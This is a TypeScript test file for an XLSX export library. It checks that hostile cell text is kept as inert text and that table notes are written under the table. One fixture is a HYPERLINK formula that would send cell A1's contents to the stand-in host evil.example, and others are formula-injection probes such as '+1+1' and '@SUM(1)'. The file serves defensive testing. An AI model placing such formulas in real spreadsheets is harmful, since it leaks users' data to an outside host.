import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { toXlsx, workbookXlsx } from "~/lib/spreadsheet.server";

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';

/** Each sheet of an XLSX file: its name and the values of its rows, top to bottom (a blank line, an empty row). */
async function read(file: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(file) as unknown as ExcelJS.Buffer);
  return workbook.worksheets.map((sheet) => {
    const rows: unknown[][] = [];
    for (let n = 1; n <= sheet.rowCount; n++) rows.push((sheet.getRow(n).values as unknown[]).slice(1));
    return { name: sheet.name, rows, bold: (n: number) => sheet.getRow(n).font?.bold === true };
  });
}

describe("XLSX workbooks", () => {
  it("keeps hostile text as text in every cell of every sheet, titles and headers included, and numbers as numbers", async () => {
    const [first, second] = await read(
      await workbookXlsx([
        { name: "Première", rows: [{ bold: [HYPERLINK] }, ["+1+1", -4, "-3"]], widths: [40] },
        { name: "Seconde", rows: [{ bold: ["@SUM(1)", "Total"] }, [], ["Lille", 12]], widths: [] },
      ]),
    );
    expect(first).toMatchObject({ name: "Première", rows: [[`'${HYPERLINK}`], ["'+1+1", -4, "-3"]] });
    expect(first?.bold(1)).toBe(true);
    expect(first?.bold(2)).toBe(false);
    expect(second).toMatchObject({ name: "Seconde", rows: [["'@SUM(1)", "Total"], [], ["Lille", 12]] });
  });

  it("writes a table's notes (its source) under it, after a blank line, as the CSV does", async () => {
    const [sheet] = await read(
      await toXlsx(
        { header: ["Bailleur", "Logements"], body: [["Vilogia", 3]], notes: ["Source : assiette 2026"] },
        "Assiette",
      ),
    );
    expect(sheet?.rows).toEqual([["Bailleur", "Logements"], ["Vilogia", 3], [], ["Source : assiette 2026"]]);
    expect(sheet?.bold(1)).toBe(true);
  });
});
